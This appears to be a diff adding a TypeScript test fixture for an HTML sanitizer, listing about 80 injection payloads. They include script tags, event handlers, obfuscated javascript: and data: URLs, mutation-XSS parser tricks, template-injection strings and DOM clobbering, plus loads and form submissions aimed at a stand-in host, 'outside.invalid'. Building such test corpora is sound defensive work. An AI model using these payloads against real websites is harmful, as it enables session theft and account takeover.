@@ -1,0 +1,98 @@
+/**
+ * HTML that would run a script, load something or leave its place if it were shown as it is. Scripts
+ * call hit(), which a test defines; addresses lead to a host that must never be asked.
+ */
+export const OUTSIDE = "outside.invalid";
+
+const url = `http://${OUTSIDE}`;
+
+export const CORPUS = [
+  // Scripts and event handlers.
+  "<script>hit()</script>",
+  `<script src="${url}/x.js"></script>`,
+  "<ScRiPt>hit()</sCrIpT>",
+  '<script type="module">hit()</script>',
+  "<img src=x onerror=hit()>",
+  '<img src="x" onerror="hit()">',
+  "<img/src=x/onerror=hit()>",
+  "<img src=x:x onerror\n=\nhit()>",
+  "<body onload=hit()>",
+  "<svg onload=hit()>",
+  "<details open ontoggle=hit()>x</details>",
+  "<input autofocus onfocus=hit()>",
+  "<video><source onerror=hit()></video>",
+  "<audio src=x onerror=hit()></audio>",
+  "<marquee onstart=hit()>x</marquee>",
+  "<p onclick=hit() onmouseover=hit() onpointerenter=hit()>press me</p>",
+  "<p style='animation:x 1s' onanimationstart=hit()>x</p><style>@keyframes x{}</style>",
+  "<a href=# onclick=hit()>press me</a>",
+  "<button onclick=hit()>press me</button>",
+  "<div popover id=p onbeforetoggle=hit()>x</div><button popovertarget=p>press me</button>",
+  // SVG and MathML.
+  "<svg><script>hit()</script></svg>",
+  '<svg><a xlink:href="javascript:hit()"><text y=20>press me</text></a></svg>',
+  "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
+  '<svg><set attributeName="onmouseover" to="hit()"></svg>',
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>hit()</script></svg>#x"></use></svg>`,
+  "<svg><foreignObject><iframe srcdoc='<script>parent.hit()</script>'></iframe></foreignObject></svg>",
+  '<math href="javascript:hit()">press me</math>',
+  '<math><maction actiontype="statusline" xlink:href="javascript:hit()">press me</maction></math>',
+  // Addresses.
+  '<a href="javascript:hit()">press me</a>',
+  '<a href="JaVaScRiPt:hit()">press me</a>',
+  '<a href=" &#14; javascript:hit()">press me</a>',
+  '<a href="java&#10;script:hit()">press me</a>',
+  '<a href="java&Tab;script&colon;hit()">press me</a>',
+  '<a href="&#x6a;avascript:hit()">press me</a>',
+  '<a href="data:text/html,<script>opener.hit()</script>">press me</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGl0KCk8L3NjcmlwdD4=">press me</a>',
+  '<a href="vbscript:hit()">press me</a>',
+  '<a href="blob:http://localhost/x">press me</a>',
+  '<a href="//outside.invalid/relative">press me</a>',
+  '<a href="/session">press me</a>',
+  // Mutation XSS: harmless to one parser, not to the next.
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">',
+  '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
+  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
+  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
+  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=hit()></style></annotation-xml></math>',
+  "<svg><title><style><img src=x onerror=hit()></style></title></svg>",
+  '<xmp><p title="</xmp><img src=x onerror=hit()>">',
+  '<textarea><p title="</textarea><img src=x onerror=hit()>">',
+  "<select><style></select><img src=x onerror=hit()></style>",
+  "<listing>&lt;img src=x onerror=hit()&gt;</listing>",
+  "<![CDATA[<img src=x onerror=hit()>]]>",
+  "<!--><img src=x onerror=hit()>-->",
+  "<!-- --!><img src=x onerror=hit()>",
+  "<table><td><template><img src=x onerror=hit()></template></td></table>",
+  // Templates and shadow roots.
+  "<template><script>hit()</script></template>",
+  "<div><template shadowrootmode=open><img src=x onerror=hit()></template></div>",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: some template languages would run it
+  "<p>${hit()} {{hit()}} {{constructor.constructor('hit()')()}}</p>",
+  // Loading and leaving.
+  `<iframe src="${url}/frame"></iframe>`,
+  "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
+  '<iframe src="javascript:parent.hit()"></iframe>',
+  `<object data="${url}/object"></object>`,
+  `<embed src="${url}/embed">`,
+  `<img src="${url}/pixel.png" alt="">`,
+  `<img srcset="${url}/set.png 1x" alt="">`,
+  `<picture><source srcset="${url}/source.png"><img alt=""></picture>`,
+  `<video poster="${url}/poster.png" src="${url}/v.mp4" autoplay></video>`,
+  `<link rel="stylesheet" href="${url}/style.css">`,
+  `<link rel="prefetch" href="${url}/prefetch">`,
+  `<style>@import "${url}/import.css"; * { background: url(${url}/bg.png) }</style>`,
+  `<p style="background: url(${url}/inline.png); position: fixed; inset: 0">over everything</p>`,
+  `<base href="${url}/">`,
+  `<meta http-equiv="refresh" content="0;url=${url}/refresh">`,
+  `<form action="${url}/form"><input name=a><button>press me</button></form>`,
+  `<button formaction="${url}/formaction">press me</button>`,
+  `<a href="https://${OUTSIDE}/ping" ping="${url}/ping">a link</a>`,
+  // Clobbering the names that scripts use.
+  '<form id="document"><input name="body"></form><img name="getElementById">',
+  '<a id="customElements"></a><a id="customElements" name="define"></a>',
+  '<form name="navigator"></form><div id="wx-app"></div>',
+  "<wx-app></wx-app><wx-sign-in></wx-sign-in><wx-composer></wx-composer>",
+  '<p slot="x" part="y" is="wx-message" class="failure" id="hint">x</p>',
+];
